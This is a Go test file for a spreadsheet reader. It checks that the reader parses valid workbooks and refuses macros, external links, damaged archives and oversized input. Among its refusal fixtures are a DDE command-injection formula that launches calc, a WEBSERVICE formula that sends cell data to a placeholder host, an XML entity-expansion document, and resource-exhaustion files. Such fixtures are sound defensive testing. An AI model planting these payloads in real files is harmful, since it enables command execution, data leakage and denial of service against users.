package sheet_test

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"duban/internal/sheet"
)

// part is an entry of an archive, written by the function.
type part struct {
	name  string
	write func(io.Writer)
}

func text(name, content string) part {
	return part{name, func(w io.Writer) { io.WriteString(w, content) }}
}

func zipped(t testing.TB, parts ...part) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	w.RegisterCompressor(zip.Deflate, func(out io.Writer) (io.WriteCloser, error) { return flate.NewWriter(out, flate.BestSpeed) })
	for _, p := range parts {
		f, err := w.Create(p.name)
		require.NoError(t, err)
		p.write(f)
	}
	require.NoError(t, w.Close())
	return b.Bytes()
}

const (
	head      = `<?xml version="1.0" encoding="UTF-8"?>` + "\n"
	main      = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"`
	office    = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
	workbook  = `application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml`
	oneCell   = `<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>`
	typesHead = head + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">`
)

// handmade is a workbook of one sheet, with the rows and whatever parts are put in place of its own.
func handmade(t testing.TB, rows func(io.Writer), more ...part) []byte {
	t.Helper()
	parts := []part{
		text("[Content_Types].xml", typesHead+`<Override PartName="/xl/workbook.xml" ContentType="`+workbook+`"/></Types>`),
		text("_rels/.rels", head+`<Relationships><Relationship Id="rId1" Type="`+office+`/officeDocument" Target="xl/workbook.xml"/></Relationships>`),
		text("xl/workbook.xml", head+`<workbook `+main+` xmlns:r="`+office+`"><sheets><sheet name="表" sheetId="1" r:id="rId1"/></sheets></workbook>`),
		text("xl/_rels/workbook.xml.rels", head+`<Relationships><Relationship Id="rId1" Type="`+office+`/worksheet" Target="worksheets/sheet1.xml"/>`+
			`<Relationship Id="rId2" Type="`+office+`/sharedStrings" Target="/xl/sharedStrings.xml"/></Relationships>`),
		text("xl/sharedStrings.xml", head+`<sst `+main+`><si><t>共用</t></si></sst>`),
		{"xl/worksheets/sheet1.xml", func(w io.Writer) {
			io.WriteString(w, head+`<worksheet `+main+`><sheetData>`)
			rows(w)
			if w != nil {
				io.WriteString(w, `</worksheet>`)
			}
		}},
	}
	for _, m := range more {
		replaced := false
		for i := range parts {
			if parts[i].name == m.name {
				parts[i], replaced = m, true
			}
		}
		if !replaced {
			parts = append(parts, m)
		}
	}
	return zipped(t, parts...)
}

// rows are the rows as they stand, merged regions after them.
func rows(content string, merges ...string) func(io.Writer) {
	return func(w io.Writer) {
		io.WriteString(w, content+"</sheetData>")
		if len(merges) > 0 {
			io.WriteString(w, "<mergeCells>")
			for _, m := range merges {
				fmt.Fprintf(w, `<mergeCell ref=%q/>`, m)
			}
			io.WriteString(w, "</mergeCells>")
		}
	}
}

func repeat(n int, row func(int) string) func(io.Writer) {
	return func(w io.Writer) {
		for i := 1; i <= n; i++ {
			io.WriteString(w, row(i))
		}
		io.WriteString(w, "</sheetData>")
	}
}

func cell(name, content string) string { return `<c r="` + name + `"` + content + `</c>` }

func formula(f string) func(io.Writer) {
	return rows(`<row r="5"><c r="G5" t="str"><f>` + strings.NewReplacer("&", "&amp;", "<", "&lt;", `"`, "&quot;").Replace(f) + `</f><v>x</v></c></row>`)
}

func TestHandmadeWorkbook(t *testing.T) {
	for label, c := range map[string]struct {
		content []byte
		want    []string
	}{
		"shared, with names left out": {
			handmade(t, rows(`<row><c t="s"><v>0</v></c><c/><c t="s"><v>0</v></c></row><row/><row><c t="b"><v>0</v></c></row>`)),
			[]string{"1: A=共用|C=共用", "3: A=FALSE"},
		},
		"prefixed": {
			handmade(t, rows(""), text("xl/worksheets/sheet1.xml", head+`<x:worksheet xmlns:x="a"><x:sheetData><x:row r="2"><x:c r="B2"><x:v>2024.1199999999999</x:v></x:c></x:row></x:sheetData></x:worksheet>`)),
			[]string{"2: B=2024.12"},
		},
		"escapes, phonetic runs, entities": {
			handmade(t, rows(`<row r="1">`+cell("A1", ` t="inlineStr"><is><r><t xml:space="preserve">甲_x000D_
乙</t></r><rPh sb="0" eb="1"><t>jia</t></rPh><r><t> &lt;_x_x0041_&amp;&#x4e01;</t></r></is>`)+`</row>`)),
			[]string{"1: A=甲\n乙 <_xA&丁"},
		},
		"errors, ISO dates, kept results": {
			handmade(t, rows(`<row r="1">`+cell("A1", ` t="e"><f>1/0</f><v>#DIV/0!</v>`)+cell("B1", ` t="d"><v>2026-06-30T00:00:00</v>`)+cell("C1", `><f>1+1</f><v>2</v>`)+
				cell("D1", ` t="str"><f>HYPERLINK("#表!A1","去")</f><v>去</v>`)+cell("E1", ` t="str"><f>IF(A1="[1]|WEBSERVICE(","",任务[单位])</f><v></v>`)+`</row>`)),
			[]string{"1: A=#DIV/0!|B=2026-06-30 @2026-06-30|C=2|D=去"},
		},
		"a region over all rows and columns": {
			handmade(t, rows(oneCell+`<row r="3"><c r="C3"><v>3</v></c></row><row r="9"><c r="D9"><v>9</v></c></row>`, "A1:B1048576", "C3:XFD8")),
			[]string{"1: A=x|B=(x)", "3: A=(x)|B=(x)|C=3|D=(3)", "9: A=(x)|B=(x)|D=9"},
		},
		"regions without a text, outside, and over each other": {
			handmade(t, rows(oneCell+`<row r="3"><c r="A3"><v>1</v></c><c r="B3"><v>3</v></c></row>`, "A2:A3", "F1:G9", "A1:B1", "B1:B3", "A100:B200")),
			[]string{"1: A=x|B=(x)"},
		},
		"formatted to the end of what is taken": {
			handmade(t, repeat(50_000, func(n int) string {
				if n == 1 {
					return oneCell
				}
				return fmt.Sprintf(`<row r="%d" s="1" customFormat="1"><c r="A%d" s="1"/><c r="B%d" s="1"/></row>`, n, n, n)
			})),
			[]string{"1: A=x"},
		},
	} {
		require.Equal(t, c.want, grid(read(t, c.content, "a.xlsx").Sheets[0]), label)
	}
	in1904 := handmade(t, rows(`<row r="1"><c r="A1" s="1"><v>44741</v></c></row>`),
		text("xl/workbook.xml", head+`<workbook `+main+`><workbookPr date1904="1"/><sheets><sheet name="表" sheetId="1" r:id="rId1"/><sheet name="图" sheetId="2" r:id="rId8"/></sheets></workbook>`),
		text("xl/_rels/workbook.xml.rels", head+`<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId8" Type="x/chartsheet" Target="y.xml"/>`+
			`<Relationship Id="rId3" Type="x/styles" Target="styles.xml"/></Relationships>`),
		text("xl/styles.xml", head+`<styleSheet><cellStyleXfs><xf numFmtId="0"/></cellStyleXfs><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>`))
	require.Equal(t, []string{"1: A=2026-06-30 @2026-06-30"}, grid(read(t, in1904, "a.xlsx").Sheets[0]))
}

// refusal is a file that is refused, with the code.
type refusal struct {
	content func() []byte
	code    sheet.Code
}

// refusals are the files that are refused; of some the question is what it costs to find that out.
func refusals(t testing.TB) (cheap, costly map[string]refusal) {
	plain := made(t, func(f *excelize.File) { require.NoError(t, f.SetCellValue("Sheet1", "A1", "x")) })
	of := func(code sheet.Code, rows func(io.Writer), more ...part) refusal {
		return refusal{func() []byte { return handmade(t, rows, more...) }, code}
	}
	const manifest = "[Content_Types].xml"
	cheap = map[string]refusal{
		"macros":                      of(sheet.CodeMacros, rows(oneCell), text("xl/vbaProject.bin", "x")),
		"macros under another name":   of(sheet.CodeMacros, rows(oneCell), text(manifest, typesHead+`<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/><Override ContentType="`+workbook+`"/></Types>`)),
		"a workbook that has macros":  of(sheet.CodeMacros, rows(oneCell), text(manifest, typesHead+`<Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>`)),
		"macros of Excel 4":           of(sheet.CodeMacros, rows(oneCell), text("xl/macrosheets/sheet1.xml", "x")),
		"another workbook":            of(sheet.CodeLinks, rows(oneCell), text("xl/externalLinks/externalLink1.xml", "x")),
		"a database":                  of(sheet.CodeLinks, rows(oneCell), text("xl/connections.xml", "x")),
		"a formula to a workbook":     of(sheet.CodeLinks, formula(`[1]Sheet1!A1`)),
		"a formula to a file":         of(sheet.CodeLinks, formula(`'C:\表\[清单.xlsx]一'!A1`)),
		"a formula to the network":    of(sheet.CodeLinks, formula(`IF(A1="","",webservice ("http://x/"&A1))`)),
		"a formula to a place":        of(sheet.CodeLinks, formula(`HYPERLINK("#A1",HYPERLINK("http://x/"&A1,"x"))`)),
		"dynamic data exchange":       of(sheet.CodeLinks, formula(`cmd|'/c calc'!A1`)),
		"a formula without a result":  of(sheet.CodeUncalculated, rows(`<row r="5"><c r="G5"><f>1+1</f></c></row>`)),
		"a document type":             of(sheet.CodeDamaged, rows(""), text("xl/sharedStrings.xml", `<!DOCTYPE x [<!ENTITY a "xxxxxxxxxx"><!ENTITY b "&a;&a;&a;">]><sst><si><t>&b;</t></si></sst>`)),
		"an unknown entity":           of(sheet.CodeDamaged, rows(`<row r="1"><c r="A1" t="str"><v>&b;</v></c></row>`)),
		"elements that do not end":    of(sheet.CodeDamaged, rows(`<row r="1">`)),
		"elements without depth":      of(sheet.CodeDamaged, rows(strings.Repeat("<a>", 200)+strings.Repeat("</a>", 200))),
		"another encoding":            of(sheet.CodeDamaged, rows(""), text("xl/worksheets/sheet1.xml", `<?xml version="1.0" encoding="GBK"?><worksheet/>`)),
		"a text that is missing":      of(sheet.CodeDamaged, rows(`<row r="1"><c r="A1" t="s"><v>1</v></c></row>`)),
		"rows out of order":           of(sheet.CodeDamaged, rows(`<row r="2"/><row r="1"/>`)),
		"rows beyond the last":        of(sheet.CodeDamaged, rows(`<row r="1048577"/>`)),
		"cells out of order":          of(sheet.CodeDamaged, rows(`<row r="1"><c r="B1"/><c r="A1"/></row>`)),
		"a cell of another row":       of(sheet.CodeDamaged, rows(`<row r="1"><c r="B2"/></row>`)),
		"a region that is none":       of(sheet.CodeDamaged, rows(oneCell, "B2:A1")),
		"a sheet that is missing":     of(sheet.CodeDamaged, rows(""), text("xl/_rels/workbook.xml.rels", `<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="../../nowhere"/></Relationships>`)),
		"no workbook":                 of(sheet.CodeDamaged, rows(""), text("_rels/.rels", `<Relationships/>`)),
		"a text in the last row":      of(sheet.CodeTooLarge, rows(oneCell+`<row r="1048576"><c r="A1048576"><v>1</v></c></row>`)),
		"a text in the last column":   of(sheet.CodeTooLarge, rows(`<row r="1"><c r="XFD1"><v>1</v></c></row>`)),
		"a document":                  of(sheet.CodeNotSheet, rows(""), text(manifest, typesHead+`<Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`)),
		"nothing in it":               of(sheet.CodeEmpty, rows(`<row r="1"><c r="A1"/><c r="B1" t="inlineStr"><is><t>  </t></is></c></row>`)),
		"more sheets than anybody":    of(sheet.CodeTooLarge, rows(""), text("xl/workbook.xml", "<workbook>"+strings.Repeat(`<sheet name="a"/>`, 200)+"</workbook>")),
		"a document by OpenDocument":  {func() []byte { return zipped(t, text("mimetype", "x"), text("content.xml", "x")) }, sheet.CodeOldFormat},
		"a binary workbook":           of(sheet.CodeOldFormat, rows(""), text("xl/workbook.bin", "x")),
		"an archive":                  {func() []byte { return zipped(t, text("a.txt", "x")) }, sheet.CodeNotSheet},
		"an entry twice":              {func() []byte { return zipped(t, text("xl/a.xml", "x"), text(`XL\a.xml`, "y")) }, sheet.CodeDamaged},
		"a workbook with a password":  {func() []byte { return stored("EncryptionInfo", "EncryptedPackage") }, sheet.CodeEncrypted},
		"a workbook of before 2007":   {func() []byte { return stored("Workbook") }, sheet.CodeOldFormat},
		"a document of before 2007":   {func() []byte { return stored("WordDocument") }, sheet.CodeNotSheet},
		"half a compound file":        {func() []byte { return stored("Workbook")[:600] }, sheet.CodeDamaged},
		"cut off":                     {func() []byte { return plain[:len(plain)/2] }, sheet.CodeDamaged},
		"PK only":                     {func() []byte { return []byte("PK") }, sheet.CodeDamaged},
		"a byte changed":              {func() []byte { b := bytes.Clone(plain); b[300] ^= 1; return b }, sheet.CodeDamaged},
		"with something before it":    {func() []byte { return append([]byte("PK..."), plain...) }, sheet.CodeDamaged},
		"a web page":                  {func() []byte { return []byte("\ufeff \r\n<html><table><tr><td>1</td></tr></table></html>") }, sheet.CodeNotSheet},
		"a saved web page":            {func() []byte { return []byte("MIME-Version: 1.0\r\n") }, sheet.CodeNotSheet},
		"a text under the wrong name": {func() []byte { return []byte("a\tb\n1\t2") }, sheet.CodeNotSheet},
		"nothing":                     {func() []byte { return nil }, sheet.CodeEmpty},
		"too large":                   {func() []byte { return make([]byte, sheet.MaxSize+1) }, sheet.CodeTooLarge},
	}
	costly = map[string]refusal{
		"a million blank rows":  of(sheet.CodeTooLarge, rows(strings.Repeat(`<row s="1" customFormat="1"/>`, 1_048_576))),
		"a million rows":        of(sheet.CodeTooLarge, rows(strings.Repeat("<row><c><v>1</v></c></row>", 1_048_576))),
		"a million blank cells": of(sheet.CodeTooLarge, repeat(20_000, func(n int) string { return `<row>` + strings.Repeat(`<c s="1"/>`, 100) + `</row>` })),
		"a million regions":     of(sheet.CodeDamaged, func(w io.Writer) { rows(oneCell, strings.Split(strings.Repeat("A1:B2 ", 99_999)+"A1:B2", " ")...)(w) }),
		"regions over each other": of(sheet.CodeTooLarge, func(w io.Writer) {
			rows(strings.Repeat(`<row><c><v>1</v></c></row>`, 15_000), strings.Split(strings.Repeat("A1:A20000 ", 20_000)+"A1:A2", " ")...)(w)
		}),
		"a token without end":     of(sheet.CodeDamaged, rows(`<row r="`+strings.Repeat(" ", 2<<20)+`">`)),
		"white space without end": of(sheet.CodeTooLarge, func(w io.Writer) { rows(strings.Repeat(strings.Repeat(" ", 1<<19)+"<row/>", 80))(w) }),
		"a text without end":      of(sheet.CodeTooLarge, rows(`<row><c t="inlineStr"><is>`+strings.Repeat(`<t>`+strings.Repeat("长", 300_000)+`</t>`, 12)+`</is></c></row>`)),
		"a million shared texts":  of(sheet.CodeTooLarge, rows(""), text("xl/sharedStrings.xml", "<sst>"+strings.Repeat("<si><t>x</t></si>", 1_000_000)+"</sst>")),
		"long shared texts":       of(sheet.CodeTooLarge, rows(""), text("xl/sharedStrings.xml", "<sst>"+strings.Repeat("<si><t>"+strings.Repeat("长", 32_000)+"</t></si>", 300)+"</sst>")),
		"wide rows":               of(sheet.CodeTooLarge, repeat(19_000, func(int) string { return `<row>` + strings.Repeat(`<c t="s"><v>0</v></c>`, 30) + `</row>` })),
		"a region over all":       of(sheet.CodeTooLarge, rows(strings.Repeat(`<row><c><v>1</v></c></row>`, 10_000)+`<row><c r="GR10001"><v>1</v></c></row>`, "A1:XFD1048576")),
		"formats without number":  of(sheet.CodeDamaged, rows(oneCell), text("xl/_rels/workbook.xml.rels", `<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="s" Type="x/styles" Target="styles.xml"/></Relationships>`), text("xl/styles.xml", "<styleSheet><cellXfs>"+strings.Repeat("<xf/>", 100_000)+"</cellXfs></styleSheet>")),
		"relations without number": of(sheet.CodeDamaged, rows(""), part{"_rels/.rels", func(w io.Writer) {
			io.WriteString(w, "<a>")
			for i := range 100_000 {
				fmt.Fprintf(w, `<Relationship Id="%d"/>`, i)
			}
			io.WriteString(w, "</a>")
		}}),
		"entries without number": {func() []byte {
			parts := make([]part, 3000)
			for i := range parts {
				parts[i] = text(fmt.Sprint(i), "")
			}
			return zipped(t, parts...)
		}, sheet.CodeTooLarge},
	}
	return cheap, costly
}

// stored is a compound file with the streams at its root.
func stored(streams ...string) []byte {
	const sector, free, end, none = 512, 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFF
	le := binary.LittleEndian
	folders := (len(streams) + 4) / 4 // sectors of the directory
	out := make([]byte, sector*(2+folders))
	h := out[:sector]
	copy(h, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")
	le.PutUint16(h[24:], 0x3e)
	le.PutUint16(h[26:], 3)
	le.PutUint16(h[28:], 0xfffe)
	le.PutUint16(h[30:], 9)
	le.PutUint16(h[32:], 6)
	le.PutUint32(h[44:], 1)
	le.PutUint32(h[48:], 1) // where the directory begins
	le.PutUint32(h[56:], 4096)
	le.PutUint32(h[60:], end)
	le.PutUint32(h[68:], end)
	for i := range 109 {
		le.PutUint32(h[76+4*i:], free)
	}
	le.PutUint32(h[76:], 0)
	fat := out[sector : 2*sector]
	for i := range len(fat) / 4 {
		le.PutUint32(fat[4*i:], free)
	}
	le.PutUint32(fat, 0xFFFFFFFD)
	for i := range folders {
		next := uint32(i + 2)
		if i == folders-1 {
			next = end
		}
		le.PutUint32(fat[4*(i+1):], next)
	}
	entry := func(i int, name string, kind byte, right, child uint32) {
		d := out[2*sector+128*i:]
		for n, u := range utf16.Encode([]rune(name)) {
			le.PutUint16(d[2*n:], u)
		}
		le.PutUint16(d[64:], uint16(2*len(name)+2))
		d[66] = kind
		le.PutUint32(d[68:], none)
		le.PutUint32(d[72:], right)
		le.PutUint32(d[76:], child)
		le.PutUint32(d[116:], end)
	}
	entry(0, "Root Entry", 5, none, 1)
	for i, name := range streams {
		right := uint32(i + 2)
		if i == len(streams)-1 {
			right = none
		}
		entry(i+1, name, 2, right, none)
	}
	return out
}

func TestRefusals(t *testing.T) {
	cheap, _ := refusals(t)
	for label, c := range cheap {
		name := "a.xlsx"
		if label == "a saved web page" {
			name = "a.xls"
		}
		require.Equal(t, c.code, refused(t, c.content(), name).Code, label)
	}
	require.Contains(t, refused(t, handmade(t, formula("[1]a!A1")), "a.xlsx").Message, "“表”的 G5")
	hidden := made(t, func(f *excelize.File) {
		require.NoError(t, f.SetCellValue("Sheet1", "A1", " "))
		_, err := f.NewSheet("旧表")
		require.NoError(t, err)
		require.NoError(t, f.SetCellValue("旧表", "A1", "x"))
		require.NoError(t, f.SetSheetVisible("旧表", false))
	})
	require.Contains(t, refused(t, hidden, "a.xlsx").Message, "旧表")
	require.Equal(t, sheet.CodeEncrypted, refused(t, withPassword(t), "a.xlsx").Code)
}

// withPassword is a workbook that really is encrypted.
func withPassword(t testing.TB) []byte {
	f := excelize.NewFile()
	defer f.Close()
	var b bytes.Buffer
	require.NoError(t, f.Write(&b, excelize.Options{Password: "长宁"}))
	return b.Bytes()
}

// maxHeap is what reading any file may take, in bytes: the whole heap of a process that does nothing else.
const maxHeap = 64 << 20

const askedFile = "DUBAN_TEST_SHEET"

// TestMain reads the file that a test asks for, in a process of its own, and says what that took.
func TestMain(m *testing.M) {
	if path := os.Getenv(askedFile); path != "" {
		os.Exit(measure(path))
	}
	os.Exit(m.Run())
}

func measure(path string) int {
	f, err := os.Open(path)
	if err != nil {
		fmt.Println(err)
		return 1
	}
	info, err := f.Stat()
	if err != nil {
		fmt.Println(err)
		return 1
	}
	var code sheet.Code
	_, err = sheet.Read(f, info.Size(), path)
	if e, ok := errors.AsType[*sheet.Error](err); ok {
		code = e.Code
	} else if err != nil {
		fmt.Println(err)
		return 1
	}
	var after runtime.MemStats
	runtime.ReadMemStats(&after)
	fmt.Printf("%d %q\n", after.HeapSys, code)
	return 0
}

// Whatever a file says, and whatever it costs to find that out, the heap stays small.
func TestReadingStaysSmall(t *testing.T) {
	program, err := os.Executable()
	require.NoError(t, err)
	_, files := refusals(t)
	maps.Copy(files, map[string]refusal{
		"YAML of nothing but lists":    {func() []byte { return []byte("[" + strings.Repeat("[],", 80_000) + "]") }, sheet.CodeDamaged},
		"YAML of nothing but depth":    {func() []byte { return []byte(strings.Repeat("[", 250_000)) }, sheet.CodeDamaged},
		"YAML of nothing but mappings": {func() []byte { return []byte(strings.Repeat("{a: ", 60_000)) }, sheet.CodeDamaged},
		"YAML of nothing but keys":     {func() []byte { return []byte("- {" + strings.Repeat("? ,", 80_000) + "}") }, sheet.CodeDamaged},
		"CSV of one row":               {func() []byte { return bytes.Repeat([]byte("a,"), sheet.MaxSize/2) }, sheet.CodeTooLarge},
		"CSV of one text":              {func() []byte { return bytes.Repeat([]byte("a"), sheet.MaxSize) }, sheet.CodeTooLarge},
		"CSV of nothing":               {func() []byte { return bytes.Repeat([]byte("\n"), 2<<20) }, sheet.CodeEmpty},
		"as much as is taken":          {asMuchAsIsTaken(t), ""},
		"YAML":                         {func() []byte { return []byte(strings.Repeat("- a: b\n", 19_000)) }, ""},
	})
	for label, c := range files {
		ending := ".xlsx"
		if kind, _, _ := strings.Cut(label, " "); kind == "CSV" || kind == "YAML" {
			ending = "." + strings.ToLower(kind)
		}
		path := filepath.Join(t.TempDir(), "file"+ending)
		require.NoError(t, os.WriteFile(path, c.content(), 0o600))
		child := exec.CommandContext(t.Context(), program)
		child.Env = append(os.Environ(), askedFile+"="+path)
		out, err := child.CombinedOutput()
		require.NoError(t, err, "%s: %s", label, out)
		var heap uint64
		var code sheet.Code
		_, err = fmt.Sscanf(string(out), "%d %q", &heap, &code)
		require.NoError(t, err, "%s: %s", label, out)
		require.Equal(t, c.code, code, label)
		require.Less(t, heap, uint64(maxHeap), label)
		t.Logf("%4d MB %s", heap>>20, label)
	}
}

// asMuchAsIsTaken makes a workbook just within the bounds.
func asMuchAsIsTaken(t testing.TB) func() []byte {
	return func() []byte {
		n := 0
		return handmade(t, repeat(sheet.MaxRows, func(int) string {
			var row strings.Builder
			row.WriteString("<row>")
			for range 10 {
				n++
				fmt.Fprintf(&row, `<c t="inlineStr"><is><t>%d: %s</t></is></c>`, n, strings.Repeat("长", 11))
			}
			row.WriteString("</row>")
			return row.String()
		}))
	}
}
